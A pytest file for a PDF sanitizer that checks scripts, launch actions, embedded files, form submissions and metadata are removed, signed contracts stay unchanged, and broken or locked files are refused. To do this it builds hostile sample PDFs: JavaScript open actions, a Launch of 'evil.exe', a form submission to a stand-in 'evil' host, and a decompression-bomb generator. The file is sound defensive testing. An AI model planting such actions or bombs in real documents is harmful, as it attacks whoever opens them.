"""PDFs that are added: nothing in them runs, opens, hides or tells; what is signed stays to the byte or is refused."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String
from pikepdf.settings import get_qpdf_limits, set_qpdf_limits
from PIL import Image

from fr_desk.errors import FrDeskError
from fr_desk.images.traces import Trace
from fr_desk.storage import document
from fr_desk.storage.document import (
    DocumentError,
    DocumentTooLargeError,
    DocumentTooLongError,
    EmptyDocumentError,
    SignedDocumentError,
    check,
    clean,
)
from fr_desk.storage.errors import BrokenPdfError, LockedPdfError
from tests.images.pictures import encoded, photo


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("evil()"))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("evil.exe"))


def made(change: Callable[[pikepdf.Pdf], object] = lambda pdf: None, pages: int = 1, **how: Any) -> bytes:
    """A PDF of blank pages with something done to it."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page()
        change(pdf)
        pdf.save(out, **how)
    return out.getvalue()


def unpacked(data: bytes) -> bytes:
    """All that is in a PDF, with nothing packed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


def note(subtype: Name, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 9, 9]), **more)


def runs_on_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = script()


def runs_by_name(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))


def runs_on_a_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=pdf.make_indirect(script()))


def runs_in_a_chain(pdf: pikepdf.Pdf) -> None:
    harmless = Dictionary(S=Name.GoTo, D=String("start"), Next=Array([launch(), script()]))
    pdf.pages[0].obj.Annots = Array([note(Name.Link, A=harmless)])


def launches(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note(Name.Link, A=pdf.make_indirect(launch())))])


def sends_a_form(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example.org/"))
    pdf.pages[0].obj.Annots = Array([note(Name.Link, A=action)])


def hides_a_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZevil"


def pins_a_file(pdf: pikepdf.Pdf) -> None:
    stream = Stream(pdf, b"MZevil", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=stream))
    pdf.pages[0].obj.Annots = Array([note(Name.FileAttachment, FS=pdf.make_indirect(spec))])


def has_a_dynamic_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(pdf, b"<evil/>"))


def says_who_made_it(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = "evil author"
    with pdf.open_metadata() as metadata:
        metadata["dc:title"] = "evil title"


def shows_a_photo(pdf: pikepdf.Pdf) -> None:
    picture = Stream(pdf, photo(), Type=Name.XObject, Subtype=Name.Image, Width=96, Height=64)
    picture.ColorSpace, picture.BitsPerComponent, picture.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))


@pytest.mark.parametrize(
    ("change", "trace"),
    [
        (runs_on_opening, Trace.SCRIPTS),
        (runs_by_name, Trace.SCRIPTS),
        (runs_on_a_page, Trace.SCRIPTS),
        (runs_in_a_chain, Trace.ACTIONS),
        (launches, Trace.ACTIONS),
        (sends_a_form, Trace.ACTIONS),
        (hides_a_file, Trace.FILES),
        (pins_a_file, Trace.FILES),
        (has_a_dynamic_form, Trace.SCRIPTS),
        (says_who_made_it, Trace.AUTHOR),
    ],
)
def test_what_acts_hides_or_tells_is_taken_out_and_told(change: Callable[[pikepdf.Pdf], None], trace: Trace):
    original = made(change)
    assert b"evil" in unpacked(original)

    kept = clean(original, "contract.pdf")

    assert b"evil" not in unpacked(kept.data)
    assert trace in kept.removed
    assert kept.pages == 1
    assert clean(kept.data, "contract.pdf").removed == ()


def test_photos_in_a_pdf_lose_what_they_say_and_keep_their_pixels():
    kept = clean(made(shows_a_photo), "scan.pdf")

    assert b"Secret" not in unpacked(kept.data)
    with pikepdf.open(io.BytesIO(kept.data)) as pdf:
        data = pdf.pages[0].Resources.XObject.Im0.read_raw_bytes()
    with Image.open(io.BytesIO(data)) as image, Image.open(io.BytesIO(photo())) as original:
        assert image.tobytes() == original.tobytes()
        assert not dict(image.getexif())


def test_links_forms_and_fonts_with_odd_names_stay():
    def change(pdf: pikepdf.Pdf) -> None:
        link = note(Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/")))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        form = Stream(pdf, b"0 0 m", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
        field = pdf.make_indirect(note(Name.Widget, FT=Name.Tx, T=String("name"), V=String("Han Mei")))
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
        resources = Dictionary(Font=Dictionary(AA=font, EF=font), XObject=Dictionary(AF=form, Metadata=form))
        pdf.pages[0].obj.Resources = resources
        pdf.pages[0].obj.Annots = Array([link, field])

    kept = clean(made(change), "contract.pdf")

    assert kept.removed == ()
    with pikepdf.open(io.BytesIO(kept.data)) as pdf:
        page = pdf.pages[0].obj
        assert str(page.Annots[0].A.URI) == "https://example.org/"
        assert str(page.Annots[1].V) == "Han Mei"
        assert set(page.Resources.Font.keys()) == {"/AA", "/EF"}
        assert set(page.Resources.XObject.keys()) == {"/AF", "/Metadata"}


def signed(pdf: pikepdf.Pdf) -> None:
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]))
    field = Dictionary(FT=Name.Sig, T=String("s"), V=pdf.make_indirect(signature))
    pdf.Root.AcroForm = Dictionary(SigFlags=3, Fields=Array([field]))
    pdf.docinfo["/Author"] = "the other party"


def test_a_signed_contract_stays_to_the_byte():
    original = made(signed)

    assert clean(original, "contract.pdf").data == original


def test_a_signed_contract_that_acts_is_refused():
    def change(pdf: pikepdf.Pdf) -> None:
        signed(pdf)
        runs_on_opening(pdf)

    with pytest.raises(SignedDocumentError, match=r"contract\.pdf is signed and contains"):
        clean(made(change), "contract.pdf")


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (b"%PDF-1.7\nhello", BrokenPdfError),
        (made()[:200], BrokenPdfError),
        (made(encryption=pikepdf.Encryption(owner="a", user="b")), LockedPdfError),
        (made(encryption=pikepdf.Encryption(owner="a", user="")), LockedPdfError),
        (made(pages=0), EmptyDocumentError),
        (made(pages=501), DocumentTooLongError),
    ],
    ids=["nothing", "cut", "password", "restricted", "no pages", "too many pages"],
)
def test_what_cannot_be_kept_is_refused_in_a_sentence(data: bytes, error: type[FrDeskError]):
    with pytest.raises(error, match=r"contract\.pdf"):
        clean(data, "contract.pdf")


def test_large_files_are_refused(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(document, "MAX_PART", 500)

    with pytest.raises(DocumentTooLargeError):
        clean(made(), "contract.pdf")


def test_padding_that_the_container_would_refuse_is_refused_at_once():
    # given a PDF whose picture packs to a thousandth of its size, and cannot be packed within the PDF
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Resources = Dictionary(
            XObject=Dictionary(Im0=Stream(pdf, bytes(3_000_000), Filter=Name.JPXDecode))
        )

    with pytest.raises(DocumentError):
        clean(made(change), "contract.pdf")


def bomb(size: int) -> bytes:
    """A PDF whose catalogue stands in an object stream that unpacks to ``size`` bytes."""
    packer = zlib.compressobj(9)
    parts = [packer.compress(b"1 0 2 20 <</Type/Catalog>>")]
    parts += [packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)]
    packed = b"".join((*parts, packer.flush()))
    head = b"%PDF-1.7\n"
    stream = b"3 0 obj\n<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = head + stream + packed + b"\nendstream\nendobj\n"
    table = b"".join(
        kind.to_bytes(1, "big") + where.to_bytes(4, "big") + index.to_bytes(2, "big")
        for kind, where, index in ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, len(head), 0), (1, len(body), 0))
    )
    about = b"<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return (
        body
        + b"4 0 obj\n"
        + about
        + b"stream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)
    )


@pytest.fixture
def small_limits(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Let little be unpacked, in this test only: the limits are those of the whole process."""
    before = get_qpdf_limits()["flate_max_memory"]
    monkeypatch.setattr(document, "MAX_UNPACKED", 4_000_000)
    document._limit_unpacking.cache_clear()
    yield
    document._limit_unpacking.cache_clear()
    set_qpdf_limits(flate_max_memory=before)


def test_a_small_file_cannot_fill_the_memory(small_limits: None):
    data = bomb(40_000_000)
    assert len(data) < 50_000

    for look in (clean, check):
        with pytest.raises(BrokenPdfError):
            look(data, "contract.pdf")


def test_checking_changes_nothing_and_names_what_is_broken():
    check(made(hides_a_file), "contract.pdf")

    with pytest.raises(BrokenPdfError, match=r"contract\.pdf"):
        check(b"%PDF-1.7\nhello", "contract.pdf")


def test_a_picture_with_a_cut_header_is_left_as_it_is():
    from fr_desk.images.jpeg import without_metadata

    whole = encoded(Image.new("RGB", (8, 8)), "JPEG")
    for data in (b"", b"\xff\xd8", b"no jpeg", whole[:20], whole[:3] + b"\x01" + whole[4:]):
        assert without_metadata(data) == data
